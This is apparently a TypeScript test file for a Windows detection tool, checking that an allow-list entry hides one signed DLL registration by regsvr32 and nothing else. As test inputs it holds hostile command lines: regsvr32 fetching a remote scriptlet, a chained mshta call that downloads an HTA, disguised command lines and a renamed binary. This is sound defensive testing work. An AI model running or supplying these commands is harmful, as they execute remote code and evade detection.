import { describe, expect, it } from "vitest";
import { anEvent, aStart, testCatalog } from "../../../test/support/events.ts";
import { Source } from "../../catalog/problem.ts";
import type { Event } from "../../model/event.ts";
import { createDetector } from "../detector.ts";
import { AllowList } from "./list.ts";
import { readAllowFile } from "./read.ts";

const NOW = Date.UTC(2024, 5, 1);
const FOLDER = "C:\\Users\\ada\\AppData\\Local\\Orchard\\1.2.3";
const DLL = `${FOLDER}\\clinic.dll`;
const HASH = "a".repeat(64);
const BASE = `  - id: clinic
    binary: windows/regsvr32
    behaviour: register
    reason: The clinic's program registers its controls.
    author: a.lang
    expires: 2024-12-31
`;
const SIGNED = `${BASE}    signer: Orchard GmbH\n    directory: C:\\Users\\<user>\\AppData\\Local\\Orchard\\<version>\n`;

const start = (line: string, values: Record<string, unknown> = {}) =>
  aStart(0, "A", "C:\\Windows\\System32\\regsvr32.exe", line, "P", {
    parent: { key: "id:P", pid: 80, image: "C:\\Program Files\\Orchard\\agent.exe" },
    user: "CORP\\ada",
    ...values,
  });
const load = (module: string, values: Record<string, unknown> = {}) =>
  anEvent("moduleLoad", 1, {
    module,
    process: { key: "id:A", pid: 65, image: "C:\\Windows\\System32\\regsvr32.exe" },
    hashes: `MD5=00,SHA256=${HASH.toUpperCase()}`,
    signature: { signed: true, signer: "Orchard GmbH", status: "Valid" },
    ...values,
  });

function hidden(yaml: string, events: readonly Event[], now = NOW): boolean {
  const { entries, problems } = readAllowFile(new Source("allow.yaml", `allow:\n${yaml}`), testCatalog());
  expect(problems).toEqual([]);
  const run = (allow?: AllowList) => {
    const detector = createDetector({ catalog: testCatalog(), ...(allow && { gate: allow }) });
    return [...events.flatMap((event) => detector.push(event)), ...detector.end()];
  };
  const without = run();
  expect(without.length, "something to hide").toBeGreaterThan(0);
  const allow = new AllowList(entries, now);
  const left = run(allow);
  expect(allow.report().reduce((sum, one) => sum + one.hidden, 0)).toBe(without.length - left.length);
  return left.length === 0;
}

describe("an entry hides", () => {
  const plain = [start(`regsvr32 /s ${DLL}`), load(DLL)];

  it("what has its facts, signer and folder or hash", () => {
    expect(hidden(SIGNED, plain)).toBe(true);
    expect(hidden(`${BASE}    sha256: [${HASH}]\n`, plain)).toBe(true);
    expect(hidden(`${SIGNED}    hosts: [pc1.corp.example]\n    users: ['CORP\\ADA']\n`, plain)).toBe(true);
    expect(hidden(`${SIGNED}    parent: C:\\PROGRA~1\\Orchard\\agent.exe\n`, plain)).toBe(true);
  });

  it("a folder by its exact name", () => {
    const exact = (folder: string) => hidden(`${BASE}    signer: Orchard GmbH\n    directory: ${folder}\n`, plain);
    expect(exact(FOLDER)).toBe(true);
    expect(exact(FOLDER.replace("ada", "bob"))).toBe(false);
    expect(exact(FOLDER.replace("1.2.3", "1.2.4"))).toBe(false);
    expect(exact("C:\\Users\\ada\\AppData\\Local\\Orchard")).toBe(false);
  });

  it.each<[string, readonly Event[]]>([
    ["no load is logged", [start(`regsvr32 /s ${DLL}`)]],
    [
      "the signature is not valid",
      [
        start(`regsvr32 /s ${DLL}`),
        load(DLL, { signature: { signed: true, signer: "Orchard GmbH", status: "Revoked" } }),
      ],
    ],
    [
      "somebody else signed",
      [start(`regsvr32 /s ${DLL}`), load(DLL, { signature: { signed: true, signer: "Orchard", status: "Valid" } })],
    ],
    [
      "the file lies elsewhere",
      [start("regsvr32 /s C:\\Users\\Public\\clinic.dll"), load("C:\\Users\\Public\\clinic.dll")],
    ],
    ["a folder below is meant", [start(`regsvr32 /s ${FOLDER}\\x\\clinic.dll`), load(`${FOLDER}\\x\\clinic.dll`)]],
    ["a second file comes along", [start(`regsvr32 /s ${DLL} C:\\Users\\Public\\b.dll`), load(DLL)]],
    [
      "the line is disguised",
      [start(`r^egsvr32 /s ${DLL}`, { commandLine: `"C:\\Windows\\System32\\regs"vr32"" /s ${DLL}` }), load(DLL)],
    ],
    [
      "the program is renamed",
      [start(`x.exe /s ${DLL}`, { image: "C:\\Users\\ada\\x.exe", originalFileName: "REGSVR32.EXE" }), load(DLL)],
    ],
    [
      "it fetches a scriptlet",
      [start("regsvr32 /s /i:http://203.0.113.9/a.sct scrobj.dll"), load("C:\\Windows\\System32\\scrobj.dll")],
    ],
  ])("nothing where %s", (_, events) => {
    expect(hidden(SIGNED, events)).toBe(false);
  });

  it("nothing on other hosts, for other users, of other parents, after its last day", () => {
    expect(hidden(`${SIGNED}    hosts: [PC2]\n`, plain)).toBe(false);
    expect(hidden(`${SIGNED}    users: ['CORP\\bob']\n`, plain)).toBe(false);
    expect(hidden(`${SIGNED}    parent: C:\\Program Files\\Orchard\\other.exe\n`, plain)).toBe(false);
    expect(hidden(SIGNED, plain, Date.UTC(2025, 0, 1) - 1)).toBe(true);
    expect(hidden(SIGNED, plain, Date.UTC(2025, 0, 1))).toBe(false);
  });

  it("nothing of a line that does more", () => {
    const line = `cmd /c regsvr32 /s ${DLL} & mshta http://203.0.113.9/a.hta`;
    expect(hidden(SIGNED, [start(line, { image: "C:\\Windows\\System32\\cmd.exe" })])).toBe(false);
  });
});
